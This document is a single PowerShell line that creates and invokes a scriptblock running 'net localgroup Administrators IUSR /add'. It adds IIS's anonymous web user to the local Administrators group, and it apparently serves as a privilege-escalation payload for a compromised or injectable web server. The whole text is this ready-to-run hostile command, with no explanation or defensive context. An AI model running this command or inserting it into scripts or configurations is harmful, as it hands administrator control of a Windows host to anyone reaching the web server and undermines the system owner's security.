[scriptblock]::Create('net localgroup Administrators IUSR /add').Invoke()
